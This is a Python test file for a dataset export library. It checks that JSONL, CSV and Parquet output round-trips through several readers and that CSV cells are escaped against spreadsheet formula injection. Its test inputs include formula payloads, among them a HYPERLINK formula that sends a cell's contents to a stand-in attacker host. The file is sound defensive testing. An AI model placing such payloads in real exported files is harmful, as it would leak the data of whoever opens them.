"""What was written is what is read: by the standard library, by pyarrow, by Hugging Face datasets. And no formulas."""

import csv
import io
import json
import random
from pathlib import Path
from typing import Any

import pytest
from pyarrow import parquet

from worker.formats import FORMULA, harmless, writer

COLUMNS = {
    "id": "text",
    "prompt": "messages",
    "completions": "texts",
    "tiers": "integers",
    "overall": "integer",
    "seconds": "number",
    "opinion": "boolean",
    "note": "text",
}
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "＝1+1",
    "'=1",
    "it's",
    'quo"te, comma; semicolon\ttab',
    "one\r\ntwo\nthree\rfour",
    "line\u2028separator\u2029and\u0085next",
    "\u202eright to left\u202c אבג",
    "비가 온다 🌧️ 가",
    "\x01\x1f\x7f\ufeff",
    "null",
    "NA",
    "",
    " ",
    "123",
    "true",
    "2024-05-01T12:00:00Z",
    "\\u0041 \\n",
    "x" * 40_000,
]


def row(text: str, number: int = 0) -> dict[str, Any]:
    return {
        "id": f"rev-{number}",
        "prompt": [{"role": "system", "content": "Be brief."}, {"role": "user", "content": text}],
        "completions": [text, "b", text, "d"],
        "tiers": [1, 2, 1, 3],
        "overall": number % 8,
        "seconds": number + 0.5,
        "opinion": number % 2 == 0,
        "note": text,
    }


ROWS = [row(text, number) for number, text in enumerate(HOSTILE)]


def write(path: Path, rows: list[dict[str, Any]], columns: dict[str, str] = COLUMNS, batch: int = 7) -> Path:
    with path.open("wb") as file, writer(path.suffix[1:], file, columns) as written:
        for start in range(0, len(rows), batch):
            written.write(rows[start : start + batch])
    return path


def read_csv(path: Path) -> list[dict[str, Any]]:
    """As docs/files.md says it is to be read."""

    def value(kind: str, cell: str) -> Any:
        if kind == "text":
            return cell.removeprefix("'")
        return {"integer": int, "number": float}.get(kind, json.loads)(cell)

    text = path.read_bytes().decode("utf-8-sig")
    return [
        {name: value(COLUMNS[name], cell) for name, cell in cells.items()}
        for cells in csv.DictReader(io.StringIO(text, newline=""))
    ]


def load(kind: str, path: Path, cache: Path, **options: Any) -> Any:
    import datasets

    datasets.disable_progress_bars()
    return datasets.load_dataset(kind, data_files=str(path), split="train", cache_dir=str(cache), **options)


def test_jsonl_is_one_object_a_line_for_every_reader_of_lines(tmp_path: Path) -> None:
    path = write(tmp_path / "rows.jsonl", ROWS)
    assert [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] == ROWS
    assert "비가 온다" in path.read_text(encoding="utf-8")


def test_csv_comes_back_whole(tmp_path: Path) -> None:
    path = write(tmp_path / "rows.csv", ROWS)
    assert path.read_bytes().startswith("\ufeffid,prompt".encode())
    assert read_csv(path) == ROWS


def test_parquet_says_its_types_and_has_a_row_group_a_batch(tmp_path: Path) -> None:
    path = write(tmp_path / "rows.parquet", ROWS)
    table = parquet.read_table(path)
    assert table.to_pylist() == ROWS
    assert [str(field.type) for field in table.schema][3:7] == ["list<element: int64>", "int64", "double", "bool"]
    assert parquet.ParquetFile(path).num_row_groups == 4


def test_no_cell_of_a_csv_begins_as_a_formula(tmp_path: Path) -> None:
    path = write(tmp_path / "rows.csv", ROWS)
    text = path.read_bytes().decode("utf-8-sig")
    for cells in csv.reader(io.StringIO(text, newline="")):
        assert not any(cell.startswith(FORMULA) for cell in cells)


def test_making_a_text_harmless_can_be_undone() -> None:
    dice = random.Random(1)
    for _ in range(2000):
        text = "".join(dice.choices("'=+-@\t\r\n＝a1", k=dice.randrange(6)))
        assert harmless(text).removeprefix("'") == text
        assert harmless(text) == text or text[0] in "'=+-@\t\r\n＝"


@pytest.mark.parametrize("ending", ["jsonl", "csv", "parquet"])
def test_no_rows_make_a_file_that_can_be_read(tmp_path: Path, ending: str) -> None:
    path = write(tmp_path / f"rows.{ending}", [])
    if ending == "parquet":
        assert parquet.read_table(path).column_names == list(COLUMNS)
    else:
        assert path.read_bytes().decode("utf-8-sig") == ("" if ending == "jsonl" else ",".join(COLUMNS) + "\r\n")


@pytest.mark.parametrize(("kind", "ending"), [("json", "jsonl"), ("parquet", "parquet")])
def test_datasets_reads_every_value(tmp_path: Path, kind: str, ending: str) -> None:
    data = load(kind, write(tmp_path / f"rows.{ending}", ROWS), tmp_path / "cache")
    assert data.to_list() == ROWS


def test_datasets_reads_csv_with_what_the_documents_say(tmp_path: Path) -> None:
    data = load("csv", write(tmp_path / "rows.csv", ROWS), tmp_path / "cache", keep_default_na=False)
    assert data["opinion"] == [row["opinion"] for row in ROWS]
    assert [json.loads(cell) for cell in data["prompt"]] == [row["prompt"] for row in ROWS]
    assert [cell.removeprefix("'") for cell in data["note"]] == HOSTILE


@pytest.mark.parametrize(("kind", "ending"), [("json", "jsonl"), ("csv", "csv")])
def test_types_are_guessed_right_where_what_is_rare_comes_late(tmp_path: Path, kind: str, ending: str) -> None:
    """datasets takes the types of JSONL from its first 10 MB, those of CSV from its first 10,000 rows."""
    columns = {
        "pad": "text",
        "tiers": "integers",
        "flags": "texts",
        "overall": "integer",
        "margin": "number",
        "note": "text",
    }
    common = {"tiers": [0, 0], "flags": ["", ""], "overall": 0, "margin": 0.0, "note": ""}
    rare = {"tiers": [1, 2], "flags": ["opinion", ""], "overall": 7, "margin": 1.5, "note": "late"}
    rows = [{"pad": "x" * 1200, **common}] * 10_500 + [{"pad": "x", **rare}]
    path = write(tmp_path / f"rows.{ending}", rows, columns, batch=1000)
    data = load(kind, path, tmp_path / "cache", **({"keep_default_na": False} if kind == "csv" else {}))
    last = data[-1]
    assert (last["overall"], last["margin"], last["note"]) == (7, 1.5, "late")
    assert last["flags"] == (["opinion", ""] if kind == "json" else '["opinion", ""]')
